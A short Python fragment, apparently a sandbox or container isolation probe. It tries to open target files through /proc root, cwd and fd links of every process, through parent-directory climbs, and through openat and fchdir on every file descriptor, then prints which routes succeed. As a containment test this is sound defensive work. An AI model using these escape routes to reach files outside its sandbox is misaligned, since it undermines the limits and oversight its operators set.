targets = json.loads(os.environ['TARGETS'])
prefixes = ['', '/proc/1/root', '/proc/self/root', '/proc/self/root/..', '/../../..', '/proc/self/cwd/../../..',
            '/proc/1/cwd', '/proc/thread-self/root', '/dev/fd/0/..', '/workspace/../..']
for pid in os.listdir('/proc'):
    if pid.isdigit():
        prefixes += [f'/proc/{pid}/root', f'/proc/{pid}/cwd/..', f'/proc/{pid}/cwd/../..']
        try:
            prefixes += [f'/proc/{pid}/fd/{fd}{up}' for fd in os.listdir(f'/proc/{pid}/fd') for up in ('', '/..', '/../../..')]
        except OSError:
            pass
read = []
for target in targets:
    for prefix in prefixes:
        try:
            with open(prefix + target, 'rb') as file:
                file.read(1)
            read.append(prefix + target)
        except OSError:
            pass
for fd in range(0, 1024):
    for way in ('.', '..', '../../../../..'):
        try:
            os.close(os.open(way, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd))
            read.append(f'openat({fd}, {way})')
        except OSError:
            pass
    try:
        os.fchdir(fd)
        read.append(f'fchdir({fd})')
    except OSError:
        pass
print(json.dumps(read))
